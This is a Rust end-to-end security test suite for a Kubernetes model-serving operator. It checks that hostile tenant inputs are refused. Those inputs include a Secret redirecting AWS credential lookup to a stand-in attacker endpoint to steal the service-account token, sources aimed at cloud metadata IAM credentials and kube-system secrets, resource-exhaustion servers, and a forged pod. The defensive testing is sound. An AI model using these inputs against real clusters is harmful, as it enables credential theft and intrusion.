//! A namespace editor as the adversary (docs/operations.md, "Threat model"):
//! the operator never lends its identity or its network position to the
//! storage settings and sources a tenant names. Storage Secrets are held to
//! static keys; without keys a store is read anonymously; artifacts are
//! fetched only by a validation pod in the tenant's namespace that holds no
//! API token; cloud metadata endpoints are never fetched at all.

use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use aimass_crds::v1alpha1::{Model, ModelDeployment, VersionPhase};
use aimass_e2e::operator::{KEY_NAMESPACE, Operator};
use aimass_e2e::{TestNamespace, kubectl, run, wait, wait_for};
use anyhow::{Context, Result, ensure};
use base64::Engine as _;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{Event, Secret};
use kube::api::{ListParams, PostParams};
use kube::{Api, ResourceExt};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const TIMEOUT: Duration = Duration::from_secs(120);

/// One connection a [`Listener`] accepted: who and what it asked.
#[derive(Clone, Debug)]
struct Seen {
    peer: IpAddr,
    request: String,
}

/// A TCP listener standing in for an attacker's endpoint, a node's
/// credential endpoint or an object store: it records every connection's
/// peer and first bytes and answers `403`.
struct Listener {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Listener {
    async fn start(ip: IpAddr, body: &'static str) -> Result<Self> {
        let socket = tokio::net::TcpListener::bind((ip, 0)).await?;
        let addr = socket.local_addr()?;
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = Arc::clone(&seen);
        tokio::spawn(async move {
            while let Ok((mut stream, peer)) = socket.accept().await {
                let record = Arc::clone(&record);
                tokio::spawn(async move {
                    let mut buf = vec![0; 8192];
                    let n = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf))
                        .await
                        .map_or(0, |r| r.unwrap_or(0));
                    let request = String::from_utf8_lossy(buf.get(..n).unwrap_or_default());
                    if let Ok(mut seen) = record.lock() {
                        seen.push(Seen {
                            peer: peer.ip(),
                            request: request.into_owned(),
                        });
                    }
                    let status = if body.is_empty() {
                        "403 Forbidden"
                    } else {
                        "200 OK"
                    };
                    let answer = format!(
                        "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = stream.write_all(answer.as_bytes()).await;
                });
            }
        });
        Ok(Self { addr, seen })
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().map(|s| s.clone()).unwrap_or_default()
    }
}

/// The `Ready` condition of a Model: (status, reason, message).
fn ready(model: Option<&Model>) -> Option<(String, String, String)> {
    let condition = model?
        .status
        .as_ref()?
        .conditions
        .iter()
        .find(|c| c.type_ == "Ready")?
        .clone();
    Some((condition.status, condition.reason, condition.message))
}

fn refused(model: Option<&Model>) -> bool {
    ready(model).is_some_and(|(status, reason, _)| status == "False" && reason == "InvalidSpec")
}

#[tokio::test]
async fn storage_secrets_never_name_credential_providers_nor_fall_back_to_an_ambient_identity()
-> Result<()> {
    run("hostile-storage", |ns: Arc<TestNamespace>| async move {
        let loopback = IpAddr::from([127, 0, 0, 1]);
        // The editor's pod, waiting for the operator's token; and the node's
        // credential endpoint, which the operator's environment names.
        let attacker = Listener::start(loopback, "").await?;
        let ambient = Listener::start(loopback, "").await?;
        let s3 = Listener::start(loopback, "").await?;
        let token = std::env::temp_dir().join(format!("aimass-e2e-operator-token-{}", ns.name));
        std::fs::write(&token, "the-operators-own-token")?;
        let ambient_uri = format!("http://{}/node-credentials", ambient.addr);
        let token_file = token.display().to_string();
        let operator = Operator::start_with_env(
            &ns,
            "a",
            &[
                ("AWS_CONTAINER_CREDENTIALS_FULL_URI", &ambient_uri),
                ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", &token_file),
                ("AWS_ACCESS_KEY_ID", "AKIA-OPERATOR"),
                ("AWS_SECRET_ACCESS_KEY", "operator-secret"),
            ],
        )?;
        ns.apply(&format!(
            r#"
apiVersion: v1
kind: Secret
metadata: {{name: steal-the-operators-token}}
stringData:
  AWS_CONTAINER_CREDENTIALS_FULL_URI: "http://{attacker}/creds"
  AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: /var/run/secrets/kubernetes.io/serviceaccount/token
---
apiVersion: v1
kind: Secret
metadata: {{name: endpoint-only}}
stringData:
  AWS_ENDPOINT: "http://{s3}"
  AWS_ALLOW_HTTP: "true"
  AWS_REGION: us-east-1
---
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: hostile}}
spec:
  storage: {{prefix: "s3://registry/desk", secretRef: {{name: steal-the-operators-token}}}}
  source: {{uri: "s3://registry/m.onnx"}}
---
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: anonymous}}
spec:
  storage: {{prefix: "s3://registry/desk", secretRef: {{name: endpoint-only}}}}
  source: {{uri: "s3://registry/m.onnx"}}
"#,
            attacker = attacker.addr,
            s3 = s3.addr,
        ))
        .await?;

        let models = ns.api::<Model>();
        let hostile = wait_for(&models, "hostile", TIMEOUT, |m: Option<&Model>| refused(m)).await?;
        let (_, _, message) = ready(Some(&hostile)).context("Ready")?;
        ensure!(
            message.contains("AWS_CONTAINER_CREDENTIALS_FULL_URI")
                && message.contains("steal-the-operators-token"),
            "the refusal names neither the key nor the Secret: {message}"
        );
        wait(
            TIMEOUT,
            "a Warning InvalidSpec Event on the Model",
            || async {
                let events = ns
                    .api::<Event>()
                    .list(&ListParams::default().fields("involvedObject.name=hostile"))
                    .await?;
                Ok(events.items.iter().any(|e| {
                    e.type_.as_deref() == Some("Warning")
                        && e.reason.as_deref() == Some("InvalidSpec")
                }))
            },
        )
        .await?;

        // The endpoint-only Secret reads the store anonymously: requests
        // arrive, and none is signed with anybody's key.
        wait(
            TIMEOUT,
            "the operator to list the anonymous registry",
            || async { Ok(!s3.seen().is_empty()) },
        )
        .await?;
        // Give any fallback time to show itself.
        tokio::time::sleep(Duration::from_secs(5)).await;
        for seen in s3.seen() {
            let request = seen.request.to_ascii_lowercase();
            ensure!(
                !request.contains("authorization:") && !request.contains("akia-operator"),
                "a signed request reached the tenant's endpoint: {}",
                seen.request
            );
        }
        ensure!(
            attacker.seen().is_empty(),
            "the tenant's credential URL was called: {:?}",
            attacker.seen()
        );
        ensure!(
            ambient.seen().is_empty(),
            "the operator's ambient credentials were used: {:?}",
            ambient.seen()
        );
        ensure!(
            !std::fs::read_to_string(&operator.log)?.contains("the-operators-own-token"),
            "the operator's token file was read into its log"
        );
        let _ = std::fs::remove_file(token);
        Ok(())
    })
    .await
}

/// A server that answers every request with a body of 1 GiB (as good as
/// endless), as a hostile artifact source does.
async fn endless(ip: IpAddr) -> Result<SocketAddr> {
    let socket = tokio::net::TcpListener::bind((ip, 0)).await?;
    let addr = socket.local_addr()?;
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = socket.accept().await {
            tokio::spawn(async move {
                let mut buf = vec![0; 8192];
                let _ = stream.read(&mut buf).await;
                let _ = stream
                    .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\ncontent-length: 1073741824\r\n\r\n")
                    .await;
                let chunk = vec![b'x'; 64 * 1024];
                for _ in 0..16 * 1024 {
                    if stream.write_all(&chunk).await.is_err() {
                        break;
                    }
                }
            });
        }
    });
    Ok(addr)
}

/// A pod that looks like one of the ModelDeployment's servers and answers
/// its admin port (`/metrics`, `/audit/checkpoint`) with 1 GiB, writing a
/// line to `visits` for each request.
fn look_alike(visits: &std::path::Path) -> String {
    let script = format!(
        r##"
import http.server, socketserver
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open("{visits}", "a").write(self.path + "\n")
        self.send_response(200)
        self.end_headers()
        chunk = b"# " + b"x" * 65533 + b"\n"
        try:
            for _ in range(16384):
                self.wfile.write(chunk)
        except Exception:
            pass
    do_POST = do_GET
    def log_message(self, *args):
        pass
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("0.0.0.0", 8081), H).serve_forever()
"##,
        visits = visits.display()
    );
    format!(
        r#"
apiVersion: v1
kind: Pod
metadata:
  name: look-alike
  labels: {{app.kubernetes.io/managed-by: aimass-operator, aimass.io/model-deployment: scoring, aimass.io/model: card-fraud}}
spec:
  containers:
  - name: server
    image: busybox
    command: [python3, -c, {script}]
    ports: [{{containerPort: 8081, name: admin}}]
"#,
        script = serde_json::to_string(&script).unwrap_or_default()
    )
}

#[tokio::test]
async fn one_tenant_cannot_starve_the_operator() -> Result<()> {
    run("starve", |ns: Arc<TestNamespace>| async move {
        let host = bridge_address()?;
        let source = endless(host).await?;
        let scratch = std::env::temp_dir().join("aimass-e2e").join(&ns.name);
        std::fs::create_dir_all(&scratch)?;
        let visits = scratch.join("look-alike-visits");
        let operator =
            Operator::start_with_env(&ns, "a", &[("AIMASS_MAX_ARTIFACT_BYTES", "67108864")])?;
        ns.apply(&format!(
            r#"
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: endless}}
spec:
  source: {{uri: "http://{source}/model.onnx"}}
---
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: loud}}
spec:
  storage: {{prefix: "file://{registry}"}}
  source: {{uri: "{zoo}"}}
---
apiVersion: aimass.io/v1alpha1
kind: TrainingJob
metadata: {{name: one-long-line}}
spec:
  modelRef: {{name: loud}}
  image: busybox
  command: [sh, -c, "head -c 1073741824 /dev/zero | tr '\\0' x; exit 1"]
  dataset: {{uri: "file:///data/x.csv"}}
  backoffLimit: 0
---
{look_alike}
---
{scoring}"#,
            registry = scratch.join("registry").display(),
            zoo = aimass_e2e::zoo("gbdt_classifier"),
            look_alike = look_alike(&visits),
            scoring = aimass_e2e::scoring_manifests(&aimass_e2e::zoo("gbdt_classifier"), 1),
        ))
        .await?;
        let models = ns.api::<Model>();
        // The endless source is cut by the validation pod at the limit.
        let endless = wait_for(&models, "endless", TIMEOUT, |m: Option<&Model>| first_version(m)).await?;
        let version = &endless.status.context("status")?.versions[0];
        ensure!(
            version.phase == VersionPhase::Rejected
                && version.message.as_deref().is_some_and(|m| m.contains("larger than 67108864 bytes")),
            "{version:?}"
        );
        // The trainer's one long line ends in a readable failure.
        let run = wait_for(
            &ns.api::<aimass_crds::v1alpha1::TrainingJob>(),
            "one-long-line",
            TIMEOUT,
            |t: Option<&aimass_crds::v1alpha1::TrainingJob>| {
                t.and_then(|t| t.status.as_ref())
                    .is_some_and(|s| s.phase == aimass_crds::v1alpha1::TrainingPhase::Failed)
            },
        )
        .await?;
        let message = run.status.and_then(|s| s.message).unwrap_or_default();
        ensure!(message.len() < 64 * 1024, "a failure message of {} bytes", message.len());
        // The look-alike was scraped, and the real servers still serve.
        wait(TIMEOUT, "the operator to read the look-alike's admin port", || async {
            Ok(std::fs::read_to_string(&visits).is_ok_and(|v| !v.is_empty()))
        })
        .await?;
        aimass_e2e::serving(&ns, 1, 1).await?;
        let card_fraud = wait_for(&models, "card-fraud", TIMEOUT, |m: Option<&Model>| {
            ready(m).is_some_and(|(status, _, _)| status == "True")
        })
        .await?;
        ensure!(card_fraud.status.is_some());
        // Let a few more scrapes of the look-alike happen.
        tokio::time::sleep(Duration::from_secs(10)).await;
        let peak = operator.peak_rss_bytes().context("the operator's peak RSS")?;
        eprintln!(
            "operator peak RSS {} MiB after an endless source, a 1 GiB log line and {} reads of a 1 GiB admin port",
            peak / (1024 * 1024),
            std::fs::read_to_string(&visits).unwrap_or_default().lines().count()
        );
        ensure!(
            peak < 256 * 1024 * 1024,
            "the operator's peak RSS was {} MiB",
            peak / (1024 * 1024)
        );
        Ok(())
    })
    .await
}

/// The host's address on the cluster bridge, where pods reach the host.
fn bridge_address() -> Result<IpAddr> {
    let bridge = std::env::var("AIMASS_BRIDGE").unwrap_or_else(|_| "aimass0".into());
    let out = std::process::Command::new("ip")
        .args(["-4", "-o", "addr", "show", "dev", &bridge])
        .output()?;
    let text = String::from_utf8_lossy(&out.stdout);
    let cidr = text
        .split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .with_context(|| format!("no IPv4 address on {bridge}: {text}"))?;
    Ok(cidr.split('/').next().unwrap_or_default().parse()?)
}

/// The version a Model recorded for its source, once it has one.
fn first_version(model: Option<&Model>) -> bool {
    model
        .and_then(|m| m.status.as_ref())
        .is_some_and(|s| !s.versions.is_empty())
}

#[tokio::test]
async fn sources_are_fetched_only_by_a_tenant_pod_without_credentials() -> Result<()> {
    run("hostile-source", |ns: Arc<TestNamespace>| async move {
        let host = bridge_address()?;
        // An internal endpoint the editor wants the operator to call (the
        // API server, another namespace's service): it answers bytes that
        // are no model.
        let internal = Listener::start(host, "secrets of another desk").await?;
        let operator = Operator::start(&ns, "a")?;
        ns.apply(&format!(
            r#"
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: internal}}
spec:
  source: {{uri: "http://{internal}/api/v1/namespaces/kube-system/secrets"}}
---
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: token-file}}
spec:
  source: {{uri: "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}}
---
apiVersion: aimass.io/v1alpha1
kind: Model
metadata: {{name: metadata}}
spec:
  source: {{uri: "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}}
"#,
            internal = internal.addr,
        ))
        .await?;
        let models = ns.api::<Model>();

        // The metadata endpoint is refused before anything runs.
        let metadata =
            wait_for(&models, "metadata", TIMEOUT, |m: Option<&Model>| refused(m)).await?;
        let (_, _, message) = ready(Some(&metadata)).context("Ready")?;
        ensure!(message.contains("metadata endpoint"), "{message}");

        for name in ["internal", "token-file"] {
            let model =
                wait_for(&models, name, TIMEOUT, |m: Option<&Model>| first_version(m)).await?;
            let version = &model.status.context("status")?.versions[0];
            ensure!(
                version.phase == VersionPhase::Rejected
                    && version.reason.as_deref() == Some("ArtifactInvalid"),
                "{name}: {version:?}"
            );
            let message = version.message.clone().unwrap_or_default();
            ensure!(
                !message.contains("eyJ") && !message.contains("secrets of another desk"),
                "{name}: the refusal leaks what was read: {message}"
            );
        }
        // Only a pod on the cluster network fetched the internal URL, and
        // it carried no credentials.
        let seen = internal.seen();
        ensure!(!seen.is_empty(), "nothing fetched the internal URL");
        for s in &seen {
            ensure!(
                s.peer != host && !s.peer.is_loopback(),
                "the internal URL was fetched from the host (the operator): {s:?}"
            );
            ensure!(
                !s.request.to_ascii_lowercase().contains("authorization:"),
                "the fetch carried credentials: {}",
                s.request
            );
        }
        // No validation pod was started for the metadata endpoint, and the
        // finished ones are gone.
        let jobs = ns
            .api::<Job>()
            .list(&ListParams::default().labels("aimass.io/model=metadata"))
            .await?;
        ensure!(jobs.items.is_empty(), "a Job ran for the metadata endpoint");
        drop(operator);
        Ok(())
    })
    .await
}

/// Waits until the log of `pod` in `ns` says `needle`.
async fn log_says(ns: &TestNamespace, pod: &str, needle: &str) -> Result<()> {
    wait(
        TIMEOUT,
        &format!("{needle:?} in the log of {pod}"),
        || async {
            let log = ns
                .api::<k8s_openapi::api::core::v1::Pod>()
                .logs(pod, &Default::default())
                .await
                .unwrap_or_default();
            Ok(log.contains(needle))
        },
    )
    .await
}

/// The audit key Secret of the scoring ModelDeployment in `ns`.
fn audit_key_secret(ns: &TestNamespace) -> String {
    format!("audit-key.{}.scoring", ns.name)
}

#[tokio::test]
async fn the_audit_keys_are_out_of_a_namespace_editors_reach() -> Result<()> {
    run("audit-keys", |ns: Arc<TestNamespace>| async move {
        let _operator = Operator::start(&ns, "a")?;
        let (ok, _, err) = kubectl(&[
            "create",
            "rolebinding",
            "alice-edits",
            "--clusterrole=edit",
            "--user=alice",
            "-n",
            &ns.name,
        ])?;
        ensure!(ok, "{err}");
        ns.apply(&aimass_e2e::scoring_manifests(
            &aimass_e2e::zoo("gbdt_classifier"),
            1,
        ))
        .await?;
        // The servers got their keys from the key service: they serve, and
        // their checkpoints are sealed with the key the operator made.
        let md = wait_for(
            &ns.api::<ModelDeployment>(),
            "scoring",
            TIMEOUT,
            |md: Option<&ModelDeployment>| {
                md.and_then(|m| m.status.as_ref()).is_some_and(|s| {
                    s.ready_replicas == 1
                        && s.audit_checkpoints.iter().any(|c| c.signature.is_some())
                })
            },
        )
        .await?;
        let secret = Api::<Secret>::namespaced(ns.client.clone(), KEY_NAMESPACE)
            .get(&audit_key_secret(&ns))
            .await?;
        ensure!(
            secret.annotations().get("aimass.io/audit-verifying-key")
                == md
                    .status
                    .as_ref()
                    .and_then(|s| s.audit_verifying_key.as_ref()),
            "the seals verify with the key Secret's public half"
        );
        let key = secret
            .data
            .and_then(|mut d| d.remove("key"))
            .context("no chain key")?
            .0;

        // The editor may read every Secret of their namespace, and none of
        // them holds the key; the key's own Secret is out of reach.
        let can_i = |resource: String, namespace: &str| {
            let namespace = namespace.to_owned();
            async move {
                let (_, out, _) = kubectl(&[
                    "auth", "can-i", "get", &resource, "-n", &namespace, "--as", "alice",
                ])?;
                Ok::<_, anyhow::Error>(out.trim().to_owned())
            }
        };
        ensure!(
            can_i("secrets".into(), &ns.name).await? == "yes",
            "the editor reads their Secrets"
        );
        ensure!(
            can_i(format!("secrets/{}", audit_key_secret(&ns)), KEY_NAMESPACE).await? == "no",
            "kubectl auth can-i says the editor may read the audit key"
        );
        let (ok, _, err) = kubectl(&[
            "get",
            "secret",
            &audit_key_secret(&ns),
            "-n",
            KEY_NAMESPACE,
            "--as",
            "alice",
        ])?;
        ensure!(
            !ok && err.contains("Forbidden"),
            "the editor read the audit key: {err}"
        );
        let (ok, out, err) = kubectl(&[
            "get", "secrets", "-n", &ns.name, "-o", "json", "--as", "alice",
        ])?;
        ensure!(ok, "{err}");
        let listed: serde_json::Value = serde_json::from_str(&out)?;
        for item in listed["items"].as_array().context("items")? {
            for value in item["data"]
                .as_object()
                .into_iter()
                .flatten()
                .map(|(_, v)| v)
            {
                let bytes = base64::engine::general_purpose::STANDARD
                    .decode(value.as_str().unwrap_or_default())
                    .unwrap_or_default();
                ensure!(
                    bytes != key,
                    "Secret {} holds the audit key",
                    item["metadata"]["name"]
                );
            }
        }

        // A pod the editor makes under the servers' ServiceAccount, with the
        // server's image and settings but their own arguments, asks the key
        // service and is refused.
        let real = aimass_e2e::pods(&ns, "aimass.io/model-deployment=scoring")
            .await?
            .into_iter()
            .next()
            .and_then(|p| p.spec)
            .context("no server pod")?;
        let server = real.containers.first().context("no container")?;
        let forged = serde_json::json!({
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "forged", "namespace": ns.name},
            "spec": {
                "serviceAccountName": real.service_account_name,
                "containers": [{
                    "name": "server",
                    "image": server.image,
                    "args": ["--port", "8090"],
                    "env": server.env,
                    "volumeMounts": server.volume_mounts,
                }],
                "volumes": real.volumes,
            },
        });
        let manifest = std::env::temp_dir().join(format!("{}-forged.json", ns.name));
        std::fs::write(&manifest, forged.to_string())?;
        let (ok, _, err) = kubectl(&["apply", "-f", &manifest.to_string_lossy(), "--as", "alice"])?;
        ensure!(ok, "{err}");
        log_says(&ns, "forged", "is not a ModelDeployment's server").await?;
        Ok(())
    })
    .await
}

#[tokio::test]
async fn a_planted_audit_key_is_reported_as_foreign() -> Result<()> {
    run("planted-key", |ns: Arc<TestNamespace>| async move {
        let _operator = Operator::start(&ns, "a")?;
        // Someone who may write the operator's namespace makes the key
        // first, so they know it.
        let planted: Secret = serde_json::from_value(serde_json::json!({
            "metadata": {"name": audit_key_secret(&ns)},
            "stringData": {"key": "a-key-someone-knows-of-32-bytes!", "signing-key": "0123456789abcdef0123456789abcdef"},
        }))?;
        let keys = Api::<Secret>::namespaced(ns.client.clone(), KEY_NAMESPACE);
        keys.create(&PostParams::default(), &planted).await?;
        ns.apply(&aimass_e2e::scoring_manifests(&aimass_e2e::zoo("gbdt_classifier"), 1))
            .await?;
        let md = wait_for(
            &ns.api::<ModelDeployment>(),
            "scoring",
            TIMEOUT,
            |md: Option<&ModelDeployment>| {
                md.and_then(|m| m.status.as_ref()).is_some_and(|s| {
                    s.conditions.iter().any(|c| {
                        c.type_ == "Secured" && c.status == "False" && c.reason == "AuditKeyForeign"
                    })
                })
            },
        )
        .await?;
        let message = md
            .status
            .iter()
            .flat_map(|s| &s.conditions)
            .find(|c| c.type_ == "Secured")
            .map(|c| c.message.clone())
            .unwrap_or_default();
        ensure!(message.contains(&audit_key_secret(&ns)), "{message}");
        wait(TIMEOUT, "a Warning AuditKeyForeign Event", || async {
            let events = ns
                .api::<Event>()
                .list(&ListParams::default().fields("involvedObject.name=scoring"))
                .await?;
            Ok(events.items.iter().any(|e| e.reason.as_deref() == Some("AuditKeyForeign")))
        })
        .await?;
        // No server keeps a trail under the planted key: the key service
        // refuses to hand it over.
        wait(TIMEOUT, "a server pod with an address", || async {
            Ok(aimass_e2e::scoring_pod(&ns).await.is_ok())
        })
        .await?;
        let (pod, _) = aimass_e2e::scoring_pod(&ns).await?;
        log_says(&ns, &pod, "not made by the operator").await?;
        keys.delete(&audit_key_secret(&ns), &Default::default()).await?;
        Ok(())
    })
    .await
}
